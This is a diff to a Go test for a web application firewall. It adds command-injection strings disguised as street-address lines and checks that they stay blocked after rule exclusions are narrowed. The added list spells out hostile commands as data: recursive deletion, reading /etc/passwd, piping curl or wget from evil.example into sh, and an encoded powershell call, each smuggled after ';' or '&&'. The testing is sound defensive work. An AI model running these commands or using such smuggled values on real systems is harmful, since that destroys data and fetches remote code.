@@ -32,11 +32,30 @@ var streetInjections = []string{
 	"é';--",
 }
 
+// streetCommands are command injections dressed as street lines: a unit word after ";" followed
+// by what makes a command more than bare words (options, paths, pipes, substitution, redirection).
+// The paranoia level 1 rules refuse each of them anywhere; a backquoted "id" or a pipe into nc
+// after a plain word they let through everywhere, so those are not listed.
+var streetCommands = []string{
+	"Bldg 2; rm -rf /",
+	"Bldg 2; Rm -rf ~",
+	"Apt 2; cat /etc/passwd",
+	"Unit 4; $(reboot)",
+	"Apt 3; del C:\\Windows\\*",
+	"Bldg 2 && curl evil.example|sh",
+	"12 Main St; wget http://evil.example/x -O- | sh",
+	"Bldg 2; powershell -enc ZQBjAGgAbwA=",
+	"Floor 3; ls > /tmp/x",
+	"Hall B; dir; Invoke-WebRequest evil.example",
+}
+
 // TestStreetLineExclusionKeepsInjectionsBlocked compares the rules as configured with the same
-// rules without the street-line exclusion (10003-10006): every injection, every payload (the SQL
-// ones in every evasion), sent as a street line through the API and the storefront form, that the unexcluded
-// rules refuse must still be refused. And the address that needed the exclusion must still be
-// refused without it; when a CRS release stops refusing it, the exclusion can go.
+// rules without the street-line exclusions (10003-10006 for SQL injection, 10008-10011 for
+// command execution): every injection, every payload (the SQL ones in every evasion), sent as a
+// street line through the API and the storefront form, that the unexcluded rules refuse must
+// still be refused, and so must every street-dressed SQL injection and command. And the addresses
+// that needed the exclusions must still be refused without them; when a CRS release stops
+// refusing one, its exclusion can go.
 func TestStreetLineExclusionKeepsInjectionsBlocked(t *testing.T) {
 	t.Parallel()
 	if testing.Short() {
@@ -44,7 +63,7 @@ func TestStreetLineExclusionKeepsInjectionsBlocked(t *testing.T) {
 	}
 	with := testWAF(t, Block, nil).Wrap(echo)
 	cw, err := coraza.NewWAF(coraza.NewWAFConfig().WithRootFS(coreruleset.FS).
-		WithDirectives(directives(Block, 1<<20) + "\nSecRuleRemoveById 10003-10006"))
+		WithDirectives(directives(Block, 1<<20) + "\nSecRuleRemoveById 10003-10011"))
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -55,6 +74,7 @@ func TestStreetLineExclusionKeepsInjectionsBlocked(t *testing.T) {
 	}
 	var values []string
 	values = append(values, streetInjections...)
+	values = append(values, streetCommands...)
 	// The exclusion concerns a SQL injection rule: those payloads in every evasion, the others as
 	// they are.
 	for _, p := range payloads {
@@ -81,7 +101,7 @@ func TestStreetLineExclusionKeepsInjectionsBlocked(t *testing.T) {
 			}
 		}
 	}
-	for _, v := range streetInjections {
+	for _, v := range append(streetInjections[:len(streetInjections):len(streetInjections)], streetCommands...) {
 		for _, build := range streets {
 			if rq := build(v); !refused(with, rq) {
 				t.Errorf("%q in %s: let through", v, rq.target)
@@ -90,5 +110,8 @@ func TestStreetLineExclusionKeepsInjectionsBlocked(t *testing.T) {
 	}
 	if rq := streets[0](addresses[0]); !refused(without, rq) {
 		t.Errorf("%q is no longer refused without the exclusion: 10003-10006 may be dropped", addresses[0])
+	}
+	if rq := streets[0]("Bldg 2; Rm 301"); !refused(without, rq) {
+		t.Errorf("%q is no longer refused without the exclusion: 10008-10011 may be dropped", "Bldg 2; Rm 301")
 	}
 }
